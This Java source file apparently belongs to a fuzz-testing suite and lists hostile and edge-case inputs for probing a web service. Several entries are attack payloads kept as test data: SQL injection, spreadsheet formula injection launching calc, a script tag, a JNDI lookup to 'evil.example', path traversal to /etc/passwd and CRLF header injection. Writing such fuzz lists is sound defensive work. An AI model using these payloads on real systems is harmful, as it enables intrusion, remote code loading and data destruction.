package org.barnstorm.fuzz;

import java.util.List;

/** What has broken other services: texts, numbers, addresses, headers (T-27 to T-32, T-37, T-38). */
final class Hostile {
    /** Strange, and to be kept as they are. */
    static final List<String> TEXTS_TO_KEEP = List.of(
            "'; drop table task; --",
            "\" or \"\"=\"",
            "%' and sleep(10) --",
            "100%_\\_%",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "@SUM(1+1)",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}{{7*7}}",
            "../../../../etc/passwd",
            "\u202Eright to left\u202C",
            "a\u200Bb\uFEFFc",
            "e\u0301 \u00E9",
            "\uD83C\uDF3B\uD83D\uDC69\u200D\uD83D\uDE80",
            "\uFDD0\uFFFE",
            "null",
            "a\tb\nc\r\nd",
            "a".repeat(200) + "!");

    /** Not to be kept. */
    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\uD800",
            "\uDC00x",
            "\uDC00\uD800",
            "x".repeat(30_001),
            "x".repeat(65_537),
            "a".repeat(5000) + "!",
            "(((((((((((((((((((((a)*)*)*)*)*)*",
            "FREQ=SECONDLY;COUNT=2147483647",
            "FREQ=YEARLY;BYDAY=53MO;BYMONTH=13",
            "FREQ=MINUTELY;BYSECOND=61;UNTIL=99991231T235959Z");

    static final List<String> TIMES = List.of(
            "+292278994-08-17T07:12:55.807Z",
            "+1000000000-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "0000-01-01T00:00:00Z",
            "9999-12-31T23:59:59Z",
            "2026-02-30T10:00:00Z",
            "2026-12-31T23:59:60Z",
            "2026-12-01T10:00:00+99:00",
            "2026-12-01",
            "2026-12-01T24:00:00",
            "2026-03-29T01:30:00",
            "now()",
            "0");

    /** As they stand in the text of the body. */
    static final List<String> NUMBERS = List.of(
            "-1",
            "0",
            "-0",
            "1.5",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "1e400",
            "-1e400",
            "1e-400",
            "1e2147483648",
            "0.1e1",
            "99999999999999999999999999999999999999999");

    /** In place of a part of the address. */
    static final List<String> PARTS = List.of(
            "0",
            "-1",
            "null",
            "undefined",
            "1-1-1-1-1",
            "%00",
            "a%00b",
            "%0d%0aX-Evil:%201",
            "..%2f..%2fq%2fmetrics",
            "..",
            "%2e%2e",
            "%2e%2e%2f",
            "%ff",
            "%c0%ae",
            "%F0%9F%8C%BB",
            "%ed%a0%80",
            "'%3b%20drop%20table%20task;--",
            "%25",
            "%2525",
            "%7Bid%7D",
            "*",
            "%20",
            ".",
            "%5c",
            "a".repeat(300),
            "uk..x",
            "-uk",
            "UK",
            "9".repeat(40),
            "2147483648",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "00000000-0000-0000-0000-000000000000",
            "0199D6F0-5F3C-7C55-9D0A-2F3F5D0C7C11",
            "{0199d6f0-5f3c-7c55-9d0a-2f3f5d0c7c11}");

    /** In place of a value after the question mark. */
    static final List<String> QUERY_VALUES = List.of(
            "",
            "0",
            "-1",
            "1.5",
            "1e3",
            "201",
            "2147483647",
            "2147483648",
            "9223372036854775808",
            "NaN",
            "Infinity",
            "%00",
            "%ff",
            "%0d%0aX-Evil:%201",
            "%27%20or%201=1--",
            "%25",
            "_",
            "%5c",
            "%F0%9F%8C%BB",
            "%ed%a0%80",
            "90,180",
            "91,0",
            "1e308,1e308",
            "true",
            "TRUE",
            "null",
            "asc;drop",
            "+292278994-08-17T07:12:55Z",
            "2026-11-23T00:00:00%2B00:00",
            "x".repeat(2000));

    static final List<String> CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/json; charset=utf-16",
            "application/json; charset=nonsense",
            "application/json; charset=",
            "application/json;;;",
            "application/merge-patch+json",
            "application/json-patch+json",
            "text/csv; charset=utf-7",
            "text/csv; charset=",
            "text/csv; charset=utf-16",
            "application",
            "/",
            "*/*",
            ";");

    static final List<String> ACCEPTS = List.of(
            "image/png",
            "text/html",
            "*/*;q=0",
            "application/json;q=abc",
            "application/json;q=2",
            ",,",
            "application",
            "/",
            "text/event-stream",
            "application/xml, */*;q=0.1",
            "application/problem+json");

    static final List<String> VERSIONS = List.of(
            "*",
            "W/\"0\"",
            "\"999\"",
            "\"0\", \"1\"",
            "abc",
            "\"",
            "\"\"",
            "\"-1\"",
            "\"99999999999999999999\"",
            "\"" + "9".repeat(4000) + "\"",
            "\"0",
            "\"\u00e9\"");

    static final List<String> KEYS =
            List.of("x".repeat(256), "x".repeat(255), "a b", "\u00e9\u00e9", "\t", "'", "\uD83C\uDF3B", "0");

    private Hostile() {}
}
